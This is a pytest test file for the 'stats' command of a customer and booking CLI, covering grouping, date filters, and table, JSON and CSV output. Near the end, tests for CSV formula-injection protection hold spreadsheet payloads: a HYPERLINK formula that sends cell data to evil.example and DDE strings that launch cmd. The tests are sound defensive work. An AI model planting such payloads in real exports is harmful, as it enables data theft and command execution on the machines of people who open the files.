"""``custmodel stats``: a selection grouped by dimensions, as a table, JSON or CSV."""

from __future__ import annotations

import csv
import io
from datetime import date
from decimal import Decimal
from pathlib import Path

import attrs
import pytest

from custmodel import (
    Booking,
    BookingKind,
    CustomerKind,
    DeparturePeriod,
    Statistics,
    StatisticsDimension,
    StatisticsKey,
    StatisticsRow,
)
from custmodel.cli._stats import _write_csv, csv_columns
from custmodel.serialization import make_converter
from tests.cli.conftest import Cli, one_line


@pytest.fixture
def shop(cli: Cli) -> Cli:
    """Weber (private A, flags 1 2), Busch (private B, flag 2), Reisewelt (corporate, flag 1).

    Weber booked 2,480.00 € in 2025 and 3,150.00 € in 2026 and has an offer; Reisewelt booked
    12,400.00 € in 2025; Busch has no booking.
    """
    with cli.book() as book:
        book.register(CustomerKind.PRIVATE, "Weber", category="A", status=[1, 2], code1="M-1")
        book.register(CustomerKind.PRIVATE, "Busch", category="B", status=[2])
        book.register(CustomerKind.CORPORATE, "Reisewelt", category="Großkunde", status=[1])
        for reference, customer, day, revenue, kind in [
            ("VG-1", 1, date(2025, 5, 10), "2480.00", BookingKind.BOOKING),
            ("VG-2", 1, date(2026, 9, 2), "3150.00", BookingKind.BOOKING),
            ("AN-3", 1, date(2025, 4, 1), "990.00", BookingKind.OFFER),
            ("VG-4", 3, date(2025, 3, 3), "12400.00", BookingKind.BOOKING),
        ]:
            booking = Booking(reference, customer, kind, day, "AG1", destination="Kreta")
            book.record_booking(attrs.evolve(booking, revenue=Decimal(revenue)))
    return cli


def table_rows(text: str) -> list[list[str]]:
    """The body and totals rows of a Rich table as lists of stripped cells."""
    return [
        [cell.strip() for cell in line.split("│")[1:-1]]
        for line in text.splitlines()
        if line.startswith("│")
    ]


def test_stats_group_by_kind_by_default_with_a_totals_line(shop: Cli) -> None:
    """Without --by the rows are the kinds; the last row is the total, revenue in de_DE."""
    shown = shop.ok("stats").stdout
    assert [
        ["private", "2", "2", "1", "5.630,00 €"],
        ["corporate", "1", "1", "0", "12.400,00 €"],
        ["Total", "3", "3", "1", "18.030,00 €"],
    ] == table_rows(shown)


def test_stats_show_flag_labels_beside_the_numbers(shop: Cli) -> None:
    """Flag rows show the number and the label; kinds with different labels are named."""
    wide = shop("stats --by status_flag", env={"COLUMNS": "200"})
    rows = table_rows(wide.stdout)
    assert [
        ["1 private: VIP; corporate: Reiserichtlinien", "2", "3", "1", "18.030,00 €"],
        ["2 Newsletter", "2", "2", "1", "5.630,00 €"],
        ["Total", "3", "3", "1", "18.030,00 €"],
    ] == rows


def test_stats_show_a_flag_whose_label_was_deleted_by_its_number(shop: Cli) -> None:
    """After the label of flag 2 is deleted, its row shows the number alone."""
    shop.ok("settings label private 2 --delete")
    rows = table_rows(shop.ok("stats --by status_flag --kind private").stdout)
    assert ["2", "2"] == rows[1][:2]


def test_stats_combine_dimensions_and_the_period(shop: Cli) -> None:
    """--by kind --by category --year 2025 counts only the departures of 2025 per group."""
    rows = table_rows(shop.ok("stats --by kind --by category --year 2025").stdout)
    assert [
        ["private", "A", "1", "1", "1", "2.480,00 €"],
        ["private", "B", "1", "0", "0", "0,00 €"],
        ["corporate", "Großkunde", "1", "1", "0", "12.400,00 €"],
        ["Total", "", "3", "2", "1", "14.880,00 €"],
    ] == rows


def test_stats_from_and_to_bound_the_departures(shop: Cli) -> None:
    """--from and --to include both days; either may be left open."""
    data = shop.json("stats --from 2025-05-10 --to 2026-09-01")
    later = shop.json("stats --from 2026-01-01")
    assert ("2480.00", "3150.00") == (data["totals"]["revenue"], later["totals"]["revenue"])


def test_stats_follow_the_selection_options(shop: Cli) -> None:
    """--kind private --flag 2 counts Weber and Busch only."""
    data = shop.json("stats --kind private --flag 2")
    assert (2, "5630.00") == (data["totals"]["customers"], data["totals"]["revenue"])


def test_stats_by_a_booking_dimension_name_the_none_group(shop: Cli) -> None:
    """Customers are grouped by their bookings' destination; no value shows "(none)"."""
    with shop.book() as book:
        book.record_booking(Booking("VG-9", 2, BookingKind.BOOKING, date(2025, 1, 1), "AG1"))
    rows = table_rows(shop.ok("stats --by destination").stdout)
    assert [["Kreta", "2"], ["(none)", "1"]] == [row[:2] for row in rows[:-1]]


def test_stats_code_column_takes_the_kinds_name_for_the_code(shop: Cli) -> None:
    """Grouped by Code1 of private customers only, the heading is the kind's label."""
    shown = shop.ok("stats --by code1 --kind private").stdout
    assert ("Mitgliedsnummer (Code1)" in shown, [["M-1", "1"], ["(none)", "1"]]) == (
        True,
        sorted((row[:2] for row in table_rows(shown)[:-1]), reverse=True),
    )


def test_stats_json_is_the_books_statistics(shop: Cli) -> None:
    """--json prints CustomerBook.statistics through custmodel's converter."""
    data = shop.json("stats --by category --year 2025")
    with shop.book() as book:
        expected = book.statistics(None, "category", DeparturePeriod.year(2025))
    assert make_converter().unstructure(expected) == data


def test_stats_csv_holds_plain_numbers_and_a_totals_row(shop: Cli) -> None:
    """--csv writes a header, one row per group with plain numbers, and the total."""
    text = shop.ok("stats --by status_flag --kind private --csv").stdout
    assert [
        ["row", "status_flag", "status_flag_label", "customers", "firm_bookings", "offers",
         "revenue"],
        ["group", "1", "VIP", "1", "2", "1", "5630.00"],
        ["group", "2", "Newsletter", "2", "2", "1", "5630.00"],
        ["total", "", "", "2", "2", "1", "5630.00"],
    ] == list(csv.reader(io.StringIO(text)))  # fmt: skip


def test_stats_csv_output_writes_the_file(shop: Cli, tmp_path: Path) -> None:
    """--csv --output FILE writes the CSV there and says so on stdout."""
    file = tmp_path / "stats.csv"
    shown = shop.ok(f"stats --by kind --csv --output {file}").stdout
    rows = list(csv.reader(file.open(encoding="utf-8", newline="")))
    assert (f"Wrote 2 groups and the totals to {file}.", 4, ["stats.csv"]) == (
        shown.strip(),
        len(rows),
        sorted(p.name for p in tmp_path.iterdir() if p.name.startswith("stats")),
    )


def test_csv_columns_name_each_dimension_and_the_labels() -> None:
    """Flag and code dimensions get a label column beside their value column."""
    group_by = (StatisticsDimension.KIND, StatisticsDimension.CODE1)
    assert (
        "row", "kind", "code1", "code1_label", "customers", "firm_bookings", "offers", "revenue",
    ) == csv_columns(group_by)  # fmt: skip


@pytest.mark.parametrize(
    "options",
    [
        "--by colour",
        "--by kind --by kind",
        "--year 2025 --from 2025-01-01",
        "--from 2025-12-31 --to 2025-01-01",
        "--from 31.12.2025",
        "--year 0",
        "--csv --json",
        "--output x.csv",
        "--raw-cells",
    ],
    ids=[
        "unknown",
        "twice",
        "year and from",
        "reversed",
        "date",
        "year 0",
        "csv json",
        "output",
        "raw cells",
    ],
)
def test_stats_bad_options_are_usage_errors(shop: Cli, options: str) -> None:
    """Bad dimensions, periods and output options exit with 2 and one error line."""
    result = shop(f"stats {options}")
    assert (2, True) == (result.exit_code, one_line(result.stderr).startswith("error: "))


def test_stats_of_an_empty_selection_print_a_zero_total(shop: Cli) -> None:
    """A selection without customers shows the totals line with zeros."""
    rows = table_rows(shop.ok("stats --name Niemand").stdout)
    assert [["Total", "0", "0", "0", "0,00 €"]] == rows


#: A destination, code and flag label a spreadsheet would run, one per trigger character.
FORMULAS = {
    "=": '=HYPERLINK("http://evil.example/?"&A1,"klick")',
    "+": "+1+cmd|' /C calc'!A0",
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
}


@pytest.mark.parametrize("formula", FORMULAS.values(), ids=FORMULAS.keys())
def test_stats_csv_guards_formula_cells(cli: Cli, formula: str) -> None:
    """Destinations, codes and labels starting with a formula trigger get a leading quote."""
    with cli.book() as book:
        book.register(CustomerKind.PRIVATE, "Weber", code1=formula, status=[1])
        book.rename_status_label(CustomerKind.PRIVATE, 1, formula)
        book.update_kind_settings(CustomerKind.PRIVATE, code1_label=formula)
        booking = Booking("VG-1", 1, BookingKind.BOOKING, date(2025, 5, 10), "AG1")
        book.record_booking(attrs.evolve(booking, destination=formula))

    text = cli.ok("stats --by destination --by code1 --by status_flag --csv").stdout

    row = next(iter(csv.DictReader(io.StringIO(text))))
    assert ["'" + formula] * 4 == [
        row["destination"], row["code1"], row["code1_label"], row["status_flag_label"]
    ]  # fmt: skip


def test_stats_csv_raw_cells_writes_formulas_as_stored(cli: Cli) -> None:
    """--raw-cells writes the group values exactly as stored."""
    with cli.book() as book:
        book.register(CustomerKind.PRIVATE, "Weber")
        booking = Booking("VG-1", 1, BookingKind.BOOKING, date(2025, 5, 10), "AG1")
        book.record_booking(attrs.evolve(booking, destination="=1+1"))

    text = cli.ok("stats --by destination --csv --raw-cells").stdout

    assert "=1+1" == next(iter(csv.DictReader(io.StringIO(text))))["destination"]


@pytest.mark.parametrize("trigger", ["=", "+", "-", "@", "\t", "\r"])
def test_stats_csv_guards_every_formula_trigger(
    trigger: str, capsys: pytest.CaptureFixture[str]
) -> None:
    """Every OWASP trigger, tab and carriage return included, gets a quote in a group cell."""
    key = StatisticsKey.of(StatisticsDimension.DESTINATION, f"{trigger}cmd")
    row = StatisticsRow((key,), customers=1)
    totals = StatisticsRow(customers=1)
    statistics = Statistics((StatisticsDimension.DESTINATION,), rows=(row,), totals=totals)

    _write_csv(statistics, "-", raw_cells=False)

    assert f"group,'{trigger}cmd,1,0,0,0.00" == capsys.readouterr().out.split("\n")[1]
